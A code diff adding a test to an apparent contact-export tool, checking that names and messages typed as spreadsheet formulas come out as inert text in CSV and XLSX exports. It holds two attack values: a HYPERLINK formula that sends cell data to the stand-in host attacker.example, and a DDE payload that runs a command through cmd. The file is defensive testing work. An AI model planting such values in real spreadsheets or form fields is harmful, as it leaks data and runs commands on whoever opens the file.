@@ -174,3 +174,36 @@ def test_a_period_it_cannot_read_is_refused_with_the_forms(tmp_path: Path, bad: 
     )
     assert result.code == 2
     assert "use day, yesterday, week" in result.output or "use a date, e.g. 2026-12-01" in result.output
+
+
+#: What anyone can type into a site's form as their name: in a spreadsheet, a live link or a command.
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
+
+
+def test_a_name_typed_as_a_formula_is_shown_as_text_never_run(tmp_path: Path) -> None:
+    config = known_month(tmp_path, "en")
+    db = open_database(tmp_path / "leadline.db")
+    db.execute("UPDATE contacts SET name = ? WHERE id = 1", [FORMULA])
+    db.execute(
+        "UPDATE touches SET name = ?, message = ? WHERE contact_id = 1",
+        [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"],
+    )
+    db.conn.commit()
+    db.close()
+    out = tmp_path / "out"
+    export(config, out, "--format", "all")
+
+    with (out / "contacts.csv").open(encoding="utf-8-sig", newline="") as fh:
+        contacts = {row["id"]: row for row in csv.DictReader(fh)}
+    assert contacts["1"]["name"] == "'" + FORMULA  # Excel shows the quote-less text, as a text
+    with (out / "touches.csv").open(encoding="utf-8-sig", newline="") as fh:
+        touches = [row for row in csv.DictReader(fh) if row["contact_id"] == "1"]
+    assert touches and all(t["message"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for t in touches)
+    assert all(t["phone"].startswith("+7") for t in touches)  # numbers stay as scripts read them
+
+    book = load_workbook(out / "leadline-export.xlsx")
+    sheet = book["Contacts"]
+    names = [row for row in sheet.iter_rows(min_row=2) if row[0].value == 1]
+    cell = names[0][[c.value for c in next(sheet.iter_rows(max_row=1))].index("Name")]
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
+    book.close()
